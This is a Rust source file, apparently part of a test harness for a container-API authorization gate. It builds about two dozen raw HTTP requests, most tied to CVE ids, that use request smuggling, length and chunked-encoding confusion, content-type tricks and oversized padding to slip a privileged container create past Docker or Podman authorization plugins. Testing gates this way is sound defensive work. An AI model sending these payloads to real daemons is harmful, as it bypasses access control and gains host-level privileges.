//! Requests that two readers understand differently. The payload is always a privileged container.

use crate::case::{Case, Run};
use crate::runner::{PRIVILEGED, create_request};

pub(super) const CASES: &[Case] = &[
    Case {
        id: "CVE-2024-41110",
        title: "a body that the judge believes to be empty",
        sends: "create with `Content-Length: 0`, the body behind it",
        run: Run::Bytes(|name| head(name, "Content-Length: 0\r\n", PRIVILEGED)),
    },
    Case {
        id: "CVE-2024-41110-none",
        title: "a body without a length",
        sends: "create with neither length nor encoding",
        run: Run::Bytes(|name| head(name, "", PRIVILEGED)),
    },
    Case {
        id: "CVE-2026-34040-1M",
        title: "a body too large to be looked at",
        sends: "1 MiB of blanks inside the JSON, `Privileged` last",
        run: Run::Bytes(|name| padded(name, 1 << 20)),
    },
    Case {
        id: "CVE-2026-34040-1M+1",
        title: "the same, one byte more",
        sends: "1 MiB + 1",
        run: Run::Bytes(|name| padded(name, (1 << 20) + 1)),
    },
    Case {
        id: "CVE-2026-34040-4M+1",
        title: "the same, over our own limit",
        sends: "4 MiB + 1",
        run: Run::Bytes(|name| padded(name, (4 << 20) + 1)),
    },
    Case {
        id: "CVE-2026-34040-64M",
        title: "the same, over everybody's limit",
        sends: "64 MiB",
        run: Run::Bytes(|name| padded(name, 64 << 20)),
    },
    Case {
        id: "moby-41452-chunked",
        title: "a body in chunks, which plugins never saw",
        sends: "create with `Transfer-Encoding: chunked`",
        run: Run::Bytes(|name| chunked(name, "Transfer-Encoding: chunked\r\n")),
    },
    Case {
        id: "moby-41452-both",
        title: "chunks and a length",
        sends: "`Content-Length: 2` and `Transfer-Encoding: chunked`",
        run: Run::Bytes(|name| {
            chunked(name, "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n")
        }),
    },
    Case {
        id: "moby-41452-case",
        title: "an encoding in odd letters and blanks",
        sends: "`Transfer-Encoding:  cHuNkEd `",
        run: Run::Bytes(|name| chunked(name, "Transfer-Encoding:  cHuNkEd \r\n")),
    },
    Case {
        id: "moby-41452-two",
        title: "two encodings",
        sends: "`Transfer-Encoding: chunked` and `Transfer-Encoding: identity`",
        run: Run::Bytes(|name| {
            chunked(
                name,
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
            )
        }),
    },
    Case {
        id: "moby-41452-trailers",
        title: "fields behind the body",
        sends: "chunks with `Content-Length` in the trailer",
        run: Run::Bytes(|name| {
            let mut bytes = chunked(
                name,
                "Transfer-Encoding: chunked\r\nTrailer: Content-Length\r\n",
            );
            bytes.truncate(bytes.len() - 2);
            bytes.extend(b"Content-Length: 0\r\n\r\n");
            bytes
        }),
    },
    Case {
        id: "CVE-2025-22871",
        title: "a bare line feed ends the size of a chunk",
        sends: "chunk sizes that end with LF alone",
        run: Run::Bytes(|name| {
            let mut bytes = head(name, "Transfer-Encoding: chunked\r\n", "");
            bytes.extend(format!("{:x}\n{PRIVILEGED}\r\n0\r\n\r\n", PRIVILEGED.len()).bytes());
            bytes
        }),
    },
    Case {
        id: "CVE-2025-55315",
        title: "a second request inside a chunk's extension",
        sends: "a chunk extension with a line feed, a create behind it",
        run: Run::Bytes(|name| {
            let mut bytes =
                b"POST /containers/prune HTTP/1.1\r\nHost: e\r\nTransfer-Encoding: chunked\r\n\r\n2;\nxx\r\n47\r\n0\r\n\r\n".to_vec();
            bytes.extend(create_request(name, PRIVILEGED));
            bytes
        }),
    },
    Case {
        id: "desync-folding",
        title: "a field folded over two lines",
        sends: "`Content-Length: 0` continued with the real one",
        run: Run::Bytes(|name| {
            head(
                name,
                &format!(
                    "X-Fold: a\r\n Content-Length: {}\r\nContent-Length: 0\r\n",
                    PRIVILEGED.len()
                ),
                PRIVILEGED,
            )
        }),
    },
    Case {
        id: "desync-two-lengths",
        title: "two lengths",
        sends: "`Content-Length: 0` and the real one",
        run: Run::Bytes(|name| {
            head(
                name,
                &format!(
                    "Content-Length: 0\r\nContent-Length: {}\r\n",
                    PRIVILEGED.len()
                ),
                PRIVILEGED,
            )
        }),
    },
    Case {
        id: "desync-get-body",
        title: "a request hidden in the body of a GET",
        sends: "`GET /_ping` with a create as its body",
        run: Run::Bytes(|name| {
            let inner = create_request(name, PRIVILEGED);
            let mut bytes = format!(
                "GET /_ping HTTP/1.1\r\nHost: e\r\nContent-Length: {}\r\n\r\n",
                inner.len()
            )
            .into_bytes();
            bytes.extend(inner);
            bytes
        }),
    },
    Case {
        id: "desync-after-close",
        title: "a request behind `Connection: close`",
        sends: "a ping that closes, then a create",
        run: Run::Bytes(|name| {
            let mut bytes = b"GET /_ping HTTP/1.1\r\nHost: e\r\nConnection: close\r\n\r\n".to_vec();
            bytes.extend(create_request(name, PRIVILEGED));
            bytes
        }),
    },
    Case {
        id: "desync-after-101",
        title: "a request behind an upgrade",
        sends: "attach with `Upgrade: tcp`, then a create on the same connection",
        run: Run::Bytes(|name| {
            let mut bytes = b"POST /containers/attack-victim/attach?stream=1&stdout=1 HTTP/1.1\r\nHost: e\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n".to_vec();
            bytes.extend(create_request(name, PRIVILEGED));
            bytes
        }),
    },
    Case {
        id: "http2-preface",
        title: "HTTP/2 on the same port, straight to the gRPC server",
        sends: "`PRI * HTTP/2.0`",
        run: Run::Call(super::path::http2_preface),
    },
    Case {
        id: "http2-upgrade",
        title: "HTTP/2 by upgrade of any path",
        sends: "`Upgrade: h2c` and `HTTP2-Settings` on a list",
        run: Run::Call(super::path::http2_upgrade),
    },
    Case {
        id: "grpc-content-type",
        title: "gRPC by content type, which podman routes on any path",
        sends: "create as `application/grpc`",
        run: Run::Bytes(|name| typed(name, "application/grpc")),
    },
    Case {
        id: "content-type-text",
        title: "JSON under another name, which dockerd hides from plugins",
        sends: "create as `text/plain`",
        run: Run::Bytes(|name| typed(name, "text/plain")),
    },
    Case {
        id: "content-type-tar",
        title: "the same as an archive",
        sends: "create as `application/x-tar`",
        run: Run::Bytes(|name| typed(name, "application/x-tar")),
    },
    Case {
        id: "content-type-none",
        title: "the same under no name",
        sends: "create without `Content-Type`",
        run: Run::Bytes(|name| {
            let length = PRIVILEGED.len();
            let mut bytes = format!("POST /containers/create?name={name} HTTP/1.1\r\nHost: e\r\nContent-Length: {length}\r\n\r\n").into_bytes();
            bytes.extend(PRIVILEGED.bytes());
            bytes
        }),
    },
    Case {
        id: "content-type-parameter",
        title: "the same with a parameter",
        sends: "create as `application/json; x`",
        run: Run::Bytes(|name| typed(name, "application/json; x")),
    },
    Case {
        id: "moby-20508",
        title: "a body cut short or changed after it was judged",
        sends: "-",
        run: Run::Tests(
            "gate: a_body_up_to_its_limit_is_judged_whole…, every_power_is_recorded_wherever_it_stands…",
        ),
    },
];

/// A create with these fields and this text behind the head.
fn head(name: &str, fields: &str, body: &str) -> Vec<u8> {
    format!(
        "POST /containers/create?name={name} HTTP/1.1\r\nHost: e\r\nContent-Type: application/json\r\n{fields}\r\n{body}"
    )
    .into_bytes()
}

fn chunked(name: &str, fields: &str) -> Vec<u8> {
    let mut bytes = head(name, fields, "");
    bytes.extend(format!("{:x}\r\n{PRIVILEGED}\r\n0\r\n\r\n", PRIVILEGED.len()).bytes());
    bytes
}

fn typed(name: &str, kind: &str) -> Vec<u8> {
    let path = format!("/containers/create?name={name}");
    crate::target::request("POST", &path, kind, Some(PRIVILEGED.as_bytes()))
}

fn padded(name: &str, length: usize) -> Vec<u8> {
    let (start, end) = (
        r#"{"Image":"busybox","#,
        r#""HostConfig":{"NetworkMode":"none","Privileged":true}}"#,
    );
    let blanks = " ".repeat(length - start.len() - end.len());
    create_request(name, &format!("{start}{blanks}{end}"))
}
